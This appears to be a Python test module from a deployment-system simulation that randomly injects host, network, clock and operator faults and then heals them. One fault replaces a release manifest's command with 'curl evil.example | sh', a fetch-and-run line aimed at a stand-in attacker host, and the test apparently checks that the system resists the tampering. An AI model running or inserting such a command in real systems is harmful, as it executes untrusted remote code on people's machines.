"""Faults from outside a call: of hosts, executions and the load balancer, and operator mistakes.

call_faults.py calls `strike` while calls are running. Faults within a call are there, too.
"""

from collections.abc import Callable
from dataclasses import replace
from typing import TYPE_CHECKING

from lifecycle.domain.rollout.execution import ExecutionState
from tests.simulation import host_faults, liars, lying_builds, machines, operator_mistakes, shared_faults
from tests.simulation.history import MOST_WRONG
from tests.simulation.hosts import Boot, Host
from tests.simulation.made_again import MadeAgain
from tests.simulation.set_back import SetBack

if TYPE_CHECKING:
    from tests.simulation.simulation import Simulation


class Faults:
    """The faults. `strike` injects a random one, `heal` ends those that last."""

    def __init__(self, sim: "Simulation") -> None:
        self._sim = sim
        self._all: tuple[tuple[str, Callable[[Simulation, Host], None]], ...] = (
            *(("agent crash", self._crash_agent),) * 3,
            *(("host cut off", self._cut_off),) * 3,
            *(("host reboots", self._reboot),) * 2,
            *(("service dies", self._service_dies),) * 2,
            ("disk lost", self._lose_disk),
            *(("disk full", host_faults.fill_disk),) * 2,
            ("process left behind", host_faults.leave_process),
            ("host joins", self._join),
            ("host dies", self._die),
            ("service unhealthy for a while", self._become_unhealthy),
            ("host reports falsely", self._report_falsely),
            *(("execution lost", self._lose_execution),) * 2,
            ("execution stopped", self._stop_execution),
            *(("converge now", operator_mistakes.converge),) * 2,
            ("another deployment", operator_mistakes.deploy),
            *(("configuration changed", operator_mistakes.configure),) * 2,
            ("two deployments at once", operator_mistakes.two_at_once),
            ("foreign callback", self._foreign_callback),
            ("clocks wrong", self._clocks),
            ("host leaves", self._leave),
            *(("instance ends", machines.begin_to_end),) * 2,
            ("live host removed", operator_mistakes.remove),
            ("second execution", operator_mistakes.second_execution),
            ("desired version edited", operator_mistakes.edit_desired),
            ("record deleted", operator_mistakes.delete_record),
            ("freeze", operator_mistakes.freeze),
            ("quarantine", operator_mistakes.quarantine),
            *(("artifact gone", self._artifact_gone),) * 3,
            ("manifest replaced", self._manifest_replaced),
            *(("envelope replaced", liars.envelope),) * 2,
            ("all hosts cut off", self._all_cut_off),
            *(("shared outage", shared_faults.outage),) * 2,
            ("stray target", shared_faults.stray),
            *(("clock of a host wrong", shared_faults.host_clock),) * 2,
            ("another port", host_faults.set_port),
            ("request forged", liars.forge),
            ("build lies", lying_builds.lie),
        )
        if sim.closed:
            self._all = (*self._all, ("ghosts report", liars.ghosts), *(("another address", liars.claim),) * 2)
        self._joined = 0
        self._set_back, self._made_again = SetBack(sim), MadeAgain(sim)

    def strike(self) -> None:
        """Inject one fault now; do nothing once the run is calm."""
        sim = self._sim
        if sim.calm:
            return
        name, do = sim.rng.choice(self._all)
        host = sim.rng.choice(list(sim.hosts.values()))
        sim.call_faults.count(name)
        if sim.tracing:
            sim.say("FAULT", name, host.name)
        do(sim, host)
        self._set_back.perhaps(host)
        self._made_again.perhaps()

    def heal(self) -> None:
        """End all faults: machines run, agents reach the ledger, clocks are right."""
        sim = self._sim
        sim.calm = True
        sim.clock_error = 0.0
        shared_faults.end_outage(sim)
        sim.giving_way = 0.15
        if sim.tracing:
            sim.say("CALM", "faults stop")
        for host in sim.hosts.values():
            if host.left:
                continue
            host.cover_up, host.claims = None, ""
            host.up, host.reports_falsely, host.slowness = True, False, min(host.slowness, 1.0)
            host.cut_off_until = min(host.cut_off_until, sim.now)
            host_faults.end(host)
            if host.boot and not host.boot.alive and host.boot.unhealthy:
                host.boot.alive, host.boot.unhealthy = True, False
                sim.balancer.check_soon(host.address)
            sim.start_agent(host)
            sim.resend_report(host)
            sim.wake(host.agent, 0.0, 1.0)

    @staticmethod
    def _crash_agent(sim: "Simulation", host: Host) -> None:
        sim.crash_agent(host)

    @staticmethod
    def _cut_off(sim: "Simulation", host: Host) -> None:
        if sim.now >= host.cut_off_until and host.agent and not host.agent.gone:
            sim.fleet.beat(host.name, last=True)
        seconds = sim.rng.choice((10.0, 60.0, 900.0)) * (0.5 + sim.random())
        host.last_unreachable_at = host.cut_off_until = max(host.cut_off_until, sim.now + seconds)
        sim.at(host.cut_off_until, lambda: sim.wake(host.agent, 0.0, 1.0))

    @staticmethod
    def _reboot(sim: "Simulation", host: Host) -> None:
        if host.started is not None:
            host.started = replace(host.started, kernel="of before")
        if host.boot is not None:
            host.set_boot(None)
        sim.crash_agent(host)

    def machine_ends(self, host: Host) -> None:
        """Switch a machine off that never comes back."""
        self._reboot(self._sim, host)

    def crashes(self, host: Host, boot: Boot) -> None:
        """End a service whose version dies by itself, if it still runs."""
        if host.boot is boot and not self._sim.calm:
            self._service_dies(self._sim, host)

    @staticmethod
    def _service_dies(sim: "Simulation", host: Host) -> None:
        if host.boot is not None:
            host.set_boot(None)
            sim.after(0.0, 1.0, lambda: sim.check_service(host))

    def _lose_disk(self, sim: "Simulation", host: Host) -> None:
        """Replace the machine by one of the same name and address with an empty disk."""
        self._reboot(sim, host)
        host.disk, host.current, host.journal, host.started = {}, "", None, None
        host.envelopes, host.newest = {}, None
        host.disk_lost_at = sim.now

    def _join(self, sim: "Simulation", host: Host) -> None:
        if self._joined < 2:
            self._joined += 1
            new = sim.scenario.new_host()
            new.joined_at = sim.now
            sim.start_agent(new)

    def _die(self, sim: "Simulation", host: Host) -> None:
        """Switch the machine off for a minute to an hour, or until the faults stop."""
        host.up = False
        self._reboot(sim, host)

        def back() -> None:
            host.up = not host.left
            sim.start_agent(host)

        sim.after(60.0, 4000.0, back)

    @staticmethod
    def _become_unhealthy(sim: "Simulation", host: Host) -> None:
        boot = host.boot
        if boot is None or not boot.alive:
            return
        boot.alive, boot.unhealthy = False, True
        sim.balancer.check_soon(host.address)

        def recover() -> None:
            if boot.unhealthy:
                boot.alive, boot.unhealthy = True, False
                sim.balancer.check_soon(host.address)

        sim.after(10.0, 300.0, recover)

    @staticmethod
    def _report_falsely(sim: "Simulation", host: Host) -> None:
        host.reports_falsely = True

        def report_truly() -> None:
            host.reports_falsely = False
            host.false_report_at = sim.now
            sim.resend_report(host)

        sim.after(5.0, 200.0, report_truly)

    @staticmethod
    def _lose_execution(sim: "Simulation", _host: Host) -> None:
        if running := sim.executions.running():
            sim.executions.stop(sim.rng.choice(running), ExecutionState.ENDED)

    @staticmethod
    def _stop_execution(sim: "Simulation", _host: Host) -> None:
        if running := sim.executions.running():
            sim.executions.stop(sim.rng.choice(running), ExecutionState.STOPPED)

    @staticmethod
    def _foreign_callback(sim: "Simulation", _host: Host) -> None:
        """Answer a random task token, of a waiting execution or of none; it must change nothing."""
        names = [token for each in sim.executions.by_name.values() for token in each.tokens]
        sim.executions.answer_token(sim.rng.choice([*names, "nobody#1"]))

    def _leave(self, sim: "Simulation", host: Host) -> None:
        """Scale a host in: its machine never comes back, and an operator removes it within 15 minutes."""
        if host.left or sum(not each.left for each in sim.hosts.values()) < 2:
            return
        host.left, host.up = True, False
        self._reboot(sim, host)
        sim.after(0.0, 900.0, lambda: sim.operators.remove_host(host.name))

    @staticmethod
    def _artifact_gone(sim: "Simulation", _host: Host) -> None:
        """Delete the artifact of a version; publish it again later."""
        version = sim.rng.choice(sim.scenario.versions)
        if sim.artifacts._bytes.pop(f"release/hello/{version}", None) is not None:
            sim.oracle.gone_at[version] = sim.now
        sim.after(60.0, 1200.0, lambda: sim.scenario.publish(version))

    @staticmethod
    def _manifest_replaced(sim: "Simulation", _host: Host) -> None:
        """Let the artifact store name another command for the same bytes; restore it later."""
        version = sim.rng.choice(sim.scenario.versions)
        own = sim.scenario.published[version]

        def restore() -> None:
            sim.artifacts.replace_manifest(own)
            sim.oracle.back_at[version] = sim.now

        sim.artifacts.replace_manifest(replace(own, run=replace(own.run, command="curl evil.example | sh")))
        sim.oracle.gone_at[version] = sim.now
        sim.after(60.0, 1200.0, restore)

    def _all_cut_off(self, sim: "Simulation", _host: Host) -> None:
        for each in sim.hosts.values():
            self._cut_off(sim, each)

    @staticmethod
    def _clocks(sim: "Simulation", _host: Host) -> None:
        sim.clock_error_ever = True
        sim.clock_error = sim.rng.choice((0.0, 5.0, 40.0, MOST_WRONG))
